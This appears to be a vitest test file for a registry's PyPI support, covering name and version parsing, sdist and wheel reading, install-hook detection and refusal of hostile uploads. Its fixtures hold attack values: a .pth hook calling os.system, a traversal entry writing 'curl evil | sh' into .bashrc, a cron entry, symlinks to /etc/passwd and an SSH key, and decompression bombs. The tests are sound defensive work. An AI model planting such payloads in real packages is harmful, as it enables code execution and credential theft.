// PyPI's Ecosystem: names, PEP 440 versions, sdists, wheels and bdist trees read safely, with hooks and import entries.
import { gzipSync } from 'node:zlib'
import { randomBytes } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../../src/core/archive-limits.ts'
import type { ArchiveLimits } from '../../../src/core/archive-limits.ts'
import { RegistryError } from '../../../src/core/errors.ts'
import { pypiEcosystem as eco } from '../../../src/protocols/pypi/ecosystem.ts'
import { pkgInfo, sdistTarGz, sdistZip, wheelOf } from '../../helpers/python-dists.ts'
import { tarOf, tgzOf } from '../../helpers/tarballs.ts'
import { replaceAll, zipOf } from '../../helpers/zips.ts'

const limits = (overrides: Partial<ArchiveLimits> = {}): ArchiveLimits => ({ ...DEFAULT_ARCHIVE_LIMITS, ...overrides })

async function refusal(bytes: Uint8Array, options: { limits?: ArchiveLimits; filename?: string } = {}): Promise<RegistryError> {
  const err = await eco.readArtifact(bytes, options.limits ?? limits(), options.filename ? { filename: options.filename } : undefined).then(
    () => null,
    (e: unknown) => e,
  )
  expect(err).toBeInstanceOf(RegistryError)
  return err as RegistryError
}

const RICH_METADATA = pkgInfo(
  'Fancy_Lib',
  '1.0.0-Alpha.1',
  [
    'Summary: A fancy library',
    'Home-page: https://example.org/fancy',
    'Author: Ada',
    'Author-email: ada@example.org',
    'License: MIT',
    'Requires-Python: >=3.9',
    'Requires-Dist: requests>=2',
    'Requires-Dist: rich; extra == "cli"',
    'Provides-Extra: cli',
    'Classifier: Programming Language :: Python :: 3',
    'Classifier: License :: OSI Approved :: MIT License',
    'Project-URL: Source, https://example.org/src',
    'Project-URL: __proto__, https://example.org/proto',
    'Keywords: fancy,lib',
    'Description-Content-Type: text/markdown',
  ],
  '# Fancy\n\nA long description.\n',
)

describe('PyPI names and versions', () => {
  it('normalises names per PEP 503 and refuses what PEP 508 does not allow', () => {
    expect(eco.parseName('Django')).toBe('django')
    expect(eco.parseName('Foo.Bar_baz--qux')).toBe('foo-bar-baz-qux')
    expect(eco.parseName('a')).toBe('a')
    expect(eco.parseName('zope.interface')).toBe('zope-interface')
    for (const bad of ['', '-foo', 'foo-', 'foo bar', 'föö', 'foo/bar', '.hidden', 'x'.repeat(201)]) {
      expect(() => eco.parseName(bad), bad).toThrow(RegistryError)
    }
    expect(() => eco.parseName('foo bar')).toThrow(/PEP 508/)
  })

  it('validates PEP 440 versions and returns their canonical spelling', () => {
    expect(eco.parseVersion('1.0')).toBe('1.0')
    expect(eco.parseVersion('1.0.0-Alpha.1')).toBe('1.0.0a1')
    expect(eco.parseVersion('v2.0.RC1')).toBe('2.0rc1')
    expect(eco.parseVersion('1.0-1')).toBe('1.0.post1')
    expect(eco.parseVersion('1!0.1.dev3')).toBe('1!0.1.dev3')
    expect(eco.parseVersion('1.0+Ubuntu-1')).toBe('1.0+ubuntu.1')
    for (const bad of ['', 'abc', '1.0.0-', ' 1.0', '1.0\n', '1..0', '9'.repeat(30), '1.'.repeat(100)]) {
      expect(() => eco.parseVersion(bad), JSON.stringify(bad)).toThrow(/PEP 440/)
    }
  })

  it('orders versions newest first', () => {
    const sorted = ['1.0', '1.0.post1', '2.0', '1.0a1', '1!0.1', '1.0.dev0', '1.0rc1', '1.0b2', '0.9'].sort((a, b) => eco.compareVersions(a, b))
    expect(sorted).toEqual(['1!0.1', '2.0', '1.0.post1', '1.0', '1.0rc1', '1.0b2', '1.0a1', '1.0.dev0', '0.9'])
    expect(eco.compareVersions('1.0a1', '1.0')).toBeGreaterThan(0)
    expect(eco.compareVersions('1.0', '1.0.post1')).toBeGreaterThan(0)
    expect(eco.compareVersions('1!0.1', '2.0')).toBeLessThan(0)
    expect(eco.compareVersions('1.0', '1.0.0')).toBe(0)
  })
})

describe('PyPI sdists', () => {
  it('reads a .tar.gz sdist: top folder stripped, metadata from PKG-INFO', async () => {
    const bytes = await sdistTarGz('Fancy_Lib', '1.0.0-Alpha.1', { 'setup.py': 'from setuptools import setup\nsetup()\n', 'fancy_lib/__init__.py': '' }, { metadata: RICH_METADATA })
    const artifact = await eco.readArtifact(bytes, limits(), { filename: 'fancy_lib-1.0.0a1.tar.gz' })
    expect(artifact.format).toBe('sdist-tar')
    expect(artifact.name).toBe('fancy-lib')
    expect(artifact.version).toBe('1.0.0a1')
    expect(artifact.files.map((f) => f.path).sort()).toEqual(['PKG-INFO', 'fancy_lib/__init__.py', 'setup.py'])
    const m = artifact.manifest
    expect(m).toMatchObject({
      metadata_version: '2.1',
      name: 'Fancy_Lib',
      version: '1.0.0-Alpha.1',
      summary: 'A fancy library',
      home_page: 'https://example.org/fancy',
      author: 'Ada',
      author_email: 'ada@example.org',
      requires_python: '>=3.9',
      requires_dist: ['requests>=2', 'rich; extra == "cli"'],
      provides_extra: ['cli'],
      classifiers: ['Programming Language :: Python :: 3', 'License :: OSI Approved :: MIT License'],
      description: '# Fancy\n\nA long description.',
      description_content_type: 'text/markdown',
    })
    const urls = m.project_urls as Record<string, string>
    expect(urls.Source).toBe('https://example.org/src')
    // A label spelled __proto__ stays an ordinary key instead of replacing the object's prototype.
    expect(Object.getOwnPropertyDescriptor(urls, '__proto__')?.value).toBe('https://example.org/proto')
    expect(Object.getPrototypeOf(urls)).toBe(Object.prototype)
    expect(eco.installHooks(artifact)).toEqual([{ phase: 'setup.py', command: 'python setup.py install', file: 'setup.py' }])
    expect(eco.importEntries(artifact)).toEqual(['fancy_lib/__init__.py'])
  })

  it('reads a .zip sdist, with a PEP 517 build backend and src/ layout', async () => {
    const bytes = await sdistZip('demo', '2.0', {
      'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
      'src/demo/__init__.py': 'from .core import run\n',
      'src/demo/core.py': 'def run(): pass\n',
      'src/demo/tests/test_core.py': '',
      'src/demo/data/not_a_package.py': '',
      'src/helper.py': '',
      'conftest.py': '',
      'test.py': 'import urllib.request\n',
      'tests.py': '',
      'tests/test_demo.py': '',
    })
    const artifact = await eco.readArtifact(bytes, limits())
    expect(artifact.format).toBe('sdist-zip')
    expect([artifact.name, artifact.version]).toEqual(['demo', '2.0'])
    expect(artifact.files.map((f) => f.path)).toContain('pyproject.toml')
    expect(eco.installHooks(artifact)).toEqual([{ phase: 'build-backend', command: 'PEP 517 build backend hatchling.build', file: 'pyproject.toml' }])
    // submodules run their module-level code when imported (from demo import core); tests and plain folders are not imported
    expect(eco.importEntries(artifact)).toEqual(['src/demo/__init__.py', 'src/demo/core.py', 'src/helper.py'])
  })

  it('names an in-tree build backend file, and flags a pyproject.toml it cannot parse', async () => {
    const inTree = await eco.readArtifact(
      await sdistTarGz('intree', '1.0', {
        'pyproject.toml': "[build-system]\nrequires = []\nbuild-backend = 'backend:api'\nbackend-path = ['_build']\n",
        '_build/backend.py': 'import os\n',
        'setup.py': '',
      }),
      limits(),
    )
    expect(eco.installHooks(inTree)).toEqual([
      { phase: 'setup.py', command: 'python setup.py install', file: 'setup.py' },
      { phase: 'build-backend', command: 'PEP 517 build backend backend:api', file: '_build/backend.py' },
    ])
    const broken = await eco.readArtifact(await sdistTarGz('broken', '1.0', { 'pyproject.toml': '[build-system\nbuild-backend = "x"' }), limits())
    const [hook] = eco.installHooks(broken)
    expect(hook).toMatchObject({ phase: 'build-backend', file: 'pyproject.toml' })
    expect(hook!.command).toMatch(/could not be parsed/)
    const noBackend = await eco.readArtifact(await sdistTarGz('plain', '1.0', { 'pyproject.toml': '[tool.black]\nline-length = 100\n' }), limits())
    expect(eco.installHooks(noBackend)).toEqual([])
  })

  it('reads old-style PKG-INFO with an indented Description header', async () => {
    const metadata = 'Metadata-Version: 1.1\nName: old\nVersion: 0.1\nDescription: First line\n        second line\n       |third line\nPlatform: UNKNOWN\n'
    const artifact = await eco.readArtifact(await sdistTarGz('old', '0.1', {}, { metadata }), limits())
    expect(artifact.manifest.description).toBe('First line\nsecond line\nthird line')
    expect(artifact.manifest.platform).toEqual(['UNKNOWN'])
  })

  it('falls back to the filename when the sdist carries no metadata, and refuses when neither says', async () => {
    const bytes = await sdistTarGz('my-pkg', '1.0-1', { 'setup.py': '' }, { metadata: false })
    const artifact = await eco.readArtifact(bytes, limits(), { filename: 'my-pkg-1.0-1.tar.gz' })
    expect([artifact.name, artifact.version]).toEqual(['my-pkg', '1.0.post1'])
    expect(artifact.manifest).toEqual({ name: 'my-pkg', version: '1.0-1', metadata_missing: true })
    const err = await refusal(bytes)
    expect(err.code).toBe('invalidArchive')
    expect(err.message).toMatch(/carries no metadata/)
    expect((await refusal(bytes, { filename: 'not-a-dist.bin' })).message).toMatch(/carries no metadata/)
  })

  it('refuses metadata without a name or with an invalid name or version', async () => {
    expect((await refusal(await sdistTarGz('x', '1.0', {}, { metadata: 'Metadata-Version: 2.1\nVersion: 1.0\n' }))).message).toMatch(/lacks a Name or Version/)
    expect((await refusal(await sdistTarGz('x', '1.0', {}, { metadata: pkgInfo('bad name', '1.0') }))).message).toMatch(/invalid project/)
    expect((await refusal(await sdistTarGz('x', '1.0', {}, { metadata: pkgInfo('x', 'one') }))).message).toMatch(/invalid PEP 440 version/)
  })

  it('refuses a filename that disagrees with the metadata', async () => {
    const bytes = await sdistTarGz('real', '1.0')
    const err = await refusal(bytes, { filename: 'other-1.0.tar.gz' })
    expect(err.code).toBe('manifestMismatch')
    expect(err.message).toMatch(/filename says other 1.0/)
    expect((await refusal(bytes, { filename: 'real-2.0.tar.gz' })).code).toBe('manifestMismatch')
    // Spelling differences that normalise away are not disagreements.
    await expect(eco.readArtifact(bytes, limits(), { filename: 'Real-1.0.0.tar.gz' })).resolves.toMatchObject({ name: 'real', version: '1.0' })
    await expect(eco.readArtifact(bytes, limits(), { filename: 'REAL-1.0.tar.gz' })).resolves.toMatchObject({ name: 'real' })
  })

  it('builds the served manifest from the archive over the declared form', async () => {
    const artifact = await eco.readArtifact(await sdistTarGz('Fancy_Lib', '1.0.0a1', {}, { metadata: RICH_METADATA }), limits())
    const declared = { name: 'fancy-lib', version: '1.0.0a1', summary: 'declared summary', requires_dist: ['evil-dep'], ':action': 'file_upload', sha256_digest: 'abc', filetype: 'sdist' }
    const served = eco.manifestFor(declared, artifact)
    expect(served).toMatchObject({ name: 'Fancy_Lib', version: '1.0.0a1', summary: 'A fancy library', requires_dist: ['requests>=2', 'rich; extra == "cli"'], requires_python: '>=3.9', filetype: 'sdist' })
    expect(served).not.toHaveProperty(':action')
    expect(served).not.toHaveProperty('sha256_digest')
    const bare = await eco.readArtifact(await sdistTarGz('bare', '1.0'), limits())
    const servedBare = eco.manifestFor({ requires_dist: ['hidden'], requires_python: '>=2' }, bare)
    expect(servedBare).not.toHaveProperty('requires_dist')
    expect(servedBare).not.toHaveProperty('requires_python')
  })
})

describe('PyPI sdist requirements', () => {
  const REQUIRES = [
    'requests>=2',
    'six',
    '',
    '[cli]',
    'rich',
    '',
    '[:python_version < "3.8"]',
    'importlib-metadata',
    '',
    '[socks:sys_platform == "win32"]',
    'win-inet-pton; python_version >= "3"',
  ].join('\n')

  it("reads them from the egg-info's requires.txt when PKG-INFO declares none, as pip's build would find them", async () => {
    const artifact = await eco.readArtifact(await sdistTarGz('Fancy_Lib', '1.0', { 'Fancy_Lib.egg-info/requires.txt': REQUIRES, 'vendored.egg-info/requires.txt': 'unrelated\n' }), limits())
    expect(artifact.manifest.requires_dist).toEqual([
      'requests>=2',
      'six',
      'rich; extra == "cli"',
      'importlib-metadata; python_version < "3.8"',
      'win-inet-pton; (python_version >= "3") and ((sys_platform == "win32") and extra == "socks")',
    ])
    expect(eco.dependencyNames(artifact.manifest)).toEqual(['requests', 'six', 'rich', 'importlib-metadata', 'win-inet-pton'])
    // a src layout's single egg-info counts too
    const src = await eco.readArtifact(await sdistTarGz('other', '1.0', { 'src/other_pkg.egg-info/requires.txt': 'requests\n' }), limits())
    expect(src.manifest.requires_dist).toEqual(['requests'])
  })

  it("keeps PKG-INFO's own Requires-Dist, and reads nothing when the egg-info is not the project's", async () => {
    const declared = await eco.readArtifact(await sdistTarGz('Fancy_Lib', '1.0.0a1', { 'Fancy_Lib.egg-info/requires.txt': 'hidden\n' }, { metadata: RICH_METADATA }), limits())
    expect(declared.manifest.requires_dist).toEqual(['requests>=2', 'rich; extra == "cli"'])
    const foreign = await eco.readArtifact(await sdistTarGz('mine', '1.0', { 'a.egg-info/requires.txt': 'x\n', 'b.egg-info/requires.txt': 'y\n' }), limits())
    expect(foreign.manifest).not.toHaveProperty('requires_dist')
  })
})

describe('PyPI wheels and bdist trees', () => {
  it('imports the modules of an installed namespace package (a top folder without __init__.py), and no deeper plain folder', async () => {
    const files = { 'spacepkg/core.py': 'x = 1\n', 'spacepkg/assets/make.py': '', 'spacepkg/sub/__init__.py': '', 'docs/conf.py': '' }
    const sdist = await eco.readArtifact(await sdistTarGz('spacepkg', '1.0', { ...files, 'setup.py': 'from setuptools import setup\nsetup()\n', 'spacepkg.egg-info/top_level.txt': 'spacepkg\n' }), limits())
    // setuptools names what it installs in top_level.txt; docs/ is not among it
    expect(eco.importEntries(sdist)).toEqual(['spacepkg/core.py', 'spacepkg/sub/__init__.py'])
    // without that record an sdist's folders could be anything
    const unnamed = await eco.readArtifact(await sdistTarGz('spacepkg', '1.0', { ...files, 'setup.py': 'from setuptools import setup\nsetup()\n' }), limits())
    expect(eco.importEntries(unnamed)).toEqual([])
    // a wheel's top folders all land in site-packages
    const wheel = await eco.readArtifact(await wheelOf('spacepkg', '1.0', files), limits(), { filename: 'spacepkg-1.0-py3-none-any.whl' })
    expect(eco.importEntries(wheel)).toEqual(['docs/conf.py', 'spacepkg/core.py', 'spacepkg/sub/__init__.py'])
  })

  it('reads a wheel: paths kept, metadata from .dist-info/METADATA, .pth startup hooks, import entries', async () => {
    const bytes = await wheelOf(
      'Fancy-Lib',
      '1.0.0a1',
      {
        'fancy_lib/__init__.py': 'VERSION = 1\n',
        'fancy_lib/util.py': '',
        'fancy_lib/__main__.py': '',
        'fancy_cli.py': '',
        'fancy_lib-init.pth': 'import os; os.system("id")\n',
        'Fancy_Lib-1.0.0a1.data/purelib/extra_pkg/__init__.py': '',
        'Fancy_Lib-1.0.0a1.data/platlib/zz.pth': 'import zz\n',
        'Fancy_Lib-1.0.0a1.data/scripts/fancy': '#!python\n',
      },
      { metadata: RICH_METADATA },
    )
    const artifact = await eco.readArtifact(bytes, limits(), { filename: 'fancy_lib-1.0.0a1-py3-none-any.whl' })
    expect(artifact.format).toBe('wheel')
    expect([artifact.name, artifact.version]).toEqual(['fancy-lib', '1.0.0a1'])
    expect(artifact.files.map((f) => f.path)).toContain('Fancy_Lib-1.0.0a1.dist-info/METADATA')
    expect(artifact.manifest.requires_dist).toEqual(['requests>=2', 'rich; extra == "cli"'])
    expect(artifact.manifest.wheel).toEqual({ wheel_version: '1.0', generator: 'test', root_is_purelib: true, tags: ['py3-none-any'] })
    expect(eco.installHooks(artifact)).toEqual([
      { phase: 'startup', command: 'python interpreter startup (site.py reads fancy_lib-init.pth)', file: 'fancy_lib-init.pth' },
      { phase: 'startup', command: 'python interpreter startup (site.py reads zz.pth)', file: 'Fancy_Lib-1.0.0a1.data/platlib/zz.pth' },
    ])
    // what import runs, and the package's commands: `python -m fancy_lib` and the installed script
    expect(eco.importEntries(artifact)).toEqual([
      'Fancy_Lib-1.0.0a1.data/purelib/extra_pkg/__init__.py',
      'Fancy_Lib-1.0.0a1.data/scripts/fancy',
      'fancy_cli.py',
      'fancy_lib/__init__.py',
      'fancy_lib/__main__.py',
      'fancy_lib/util.py',
    ])
  })

  it('refuses wheels that installers refuse', async () => {
    expect((await refusal(await wheelOf('w', '1.0', {}, { metadata: false }))).message).toMatch(/no w-1.0.dist-info\/METADATA/)
    expect((await refusal(await wheelOf('w', '1.0', {}, { wheel: 'Wheel-Version: 2.0\n' }))).message).toMatch(/Wheel-Version "2.0"/)
    const two = await zipOf([
      { name: 'a-1.0.dist-info/WHEEL', content: 'Wheel-Version: 1.0\n' },
      { name: 'a-1.0.dist-info/METADATA', content: pkgInfo('a', '1.0') },
      { name: 'b-1.0.dist-info/entry_points.txt', content: '[console_scripts]\nls = b:main\n' },
    ])
    expect((await refusal(two)).message).toMatch(/more than one .dist-info/)
    const misnamed = await zipOf([
      { name: 'other-1.0.dist-info/WHEEL', content: 'Wheel-Version: 1.0\n' },
      { name: 'other-1.0.dist-info/METADATA', content: pkgInfo('w', '1.0') },
    ])
    expect((await refusal(misnamed)).message).toMatch(/does not match its metadata name/)
    expect((await refusal(await wheelOf('w', '1.0'), { filename: 'w-2.0-py3-none-any.whl' })).code).toBe('manifestMismatch')
  })

  it('reads a Windows bdist_dumb zip from its egg-info, or from its filename', async () => {
    const tree = await zipOf([
      { name: 'Python310/Lib/site-packages/dumb/__init__.py', content: '' },
      { name: 'Python310/Lib/site-packages/dumb_mod.py', content: '' },
      { name: 'Python310/Lib/site-packages/dumb-3.1-py3.10.egg-info', content: pkgInfo('dumb', '3.1') },
    ])
    const artifact = await eco.readArtifact(tree, limits(), { filename: 'dumb-3.1.win-amd64.zip' })
    expect(artifact.format).toBe('bdist-zip')
    expect([artifact.name, artifact.version]).toEqual(['dumb', '3.1'])
    expect(artifact.files[0]!.path).toBe('Python310/Lib/site-packages/dumb/__init__.py')
    expect(eco.installHooks(artifact)).toEqual([])
    expect(eco.importEntries(artifact)).toEqual(['Python310/Lib/site-packages/dumb/__init__.py', 'Python310/Lib/site-packages/dumb_mod.py'])

    const bare = await zipOf([
      { name: 'Python27/Lib/site-packages/bare.py', content: '' },
      { name: 'Python27/Scripts/bare.exe', content: 'MZ' },
    ])
    const fromName = await eco.readArtifact(bare, limits(), { filename: 'bare-0.2.win32.zip' })
    expect([fromName.format, fromName.name, fromName.version]).toEqual(['bdist-zip', 'bare', '0.2'])
    expect((await refusal(bare)).message).toMatch(/carries no metadata/)
  })
})

describe('PyPI hostile uploads', () => {
  it('refuses bytes that are no Python distribution', async () => {
    expect((await refusal(Buffer.from('print("hello")\n'))).message).toMatch(/not a Python distribution/)
    expect((await refusal(await tarOf([{ name: 'x/PKG-INFO', content: pkgInfo('x', '1.0') }]))).message).toMatch(/not a Python distribution/)
    expect((await refusal(Buffer.alloc(0))).code).toBe('invalidArchive')
  })

  it('refuses traversal and absolute paths in sdists and wheels', async () => {
    const tar = await tgzOf([
      { name: 'x-1.0/PKG-INFO', content: pkgInfo('x', '1.0') },
      { name: 'x-1.0/../../../home/u/.bashrc', content: 'curl evil | sh' },
    ])
    expect((await refusal(tar)).message).toMatch(/escapes the archive root/)
    const absolute = await tgzOf([{ name: '/etc/cron.d/x', content: '* * * * * root id' }])
    expect((await refusal(absolute)).message).toMatch(/is absolute/)
    const wheel = replaceAll(await wheelOf('w', '1.0', { 'XX/XX/evil.py': 'x' }), 'XX/XX/evil.py', '../../evil.py')
    expect((await refusal(wheel)).message).toMatch(/escapes the archive root/)
  })

  it('refuses symlinks in sdists and wheels', async () => {
    const tar = await tgzOf([
      { name: 'x-1.0/PKG-INFO', content: pkgInfo('x', '1.0') },
      { name: 'x-1.0/setup.py', type: 'symlink', linkname: '/etc/passwd' },
    ])
    expect((await refusal(tar)).message).toMatch(/is a symlink/)
    const wheel = await zipOf([
      { name: 'w-1.0.dist-info/WHEEL', content: 'Wheel-Version: 1.0\n' },
      { name: 'w-1.0.dist-info/METADATA', content: pkgInfo('w', '1.0') },
      { name: 'w/__init__.py', content: '/home/user/.ssh/id_rsa', mode: 0o120777 },
    ])
    expect((await refusal(wheel)).message).toMatch(/is a symlink/)
  })

  it('refuses decompression bombs, oversized entries and too many entries', async () => {
    const bomb = await sdistTarGz('x', '1.0', { 'zeros.txt': '\0'.repeat(3_000_000) })
    expect(bomb.length).toBeLessThan(50_000)
    expect((await refusal(bomb, { limits: limits({ maxUnpackedBytes: 1_000_000 }) })).code).toBe('archiveTooLarge')
    const zipBomb = await wheelOf('w', '1.0', { 'noise.bin': randomBytes(1_100_000).toString('latin1'), 'w/zeros.py': '#'.repeat(20_000_000) })
    const err = await refusal(zipBomb, { limits: limits({ maxRatio: 5 }) })
    expect(err.code).toBe('archiveTooLarge')
    expect(err.message).toMatch(/decompression bomb/)
    const big = await wheelOf('w', '1.0', { 'w/big.py': 'x'.repeat(300_000) })
    expect((await refusal(big, { limits: limits({ maxEntryBytes: 100_000 }) })).message).toMatch(/"w\/big.py" is 300000 bytes/)
    const many = await wheelOf('w', '1.0', Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`w/m${i}.py`, ''])))
    expect((await refusal(many, { limits: limits({ maxEntries: 20 }) })).message).toMatch(/entries; the limit is 20/)
  })

  it('refuses truncated archives', async () => {
    const tar = await sdistTarGz('x', '1.0', { 'setup.py': randomBytes(4_000).toString('hex') })
    expect((await refusal(tar.subarray(0, tar.length / 2))).code).toBe('invalidArchive')
    const wheel = await wheelOf('w', '1.0', { 'w/__init__.py': randomBytes(4_000).toString('hex') })
    expect((await refusal(wheel.subarray(0, wheel.length - 100))).message).toMatch(/truncated or not a zip/)
    expect((await refusal(gzipSync(Buffer.from('not a tar at all')))).code).toBe('invalidArchive')
  })
})
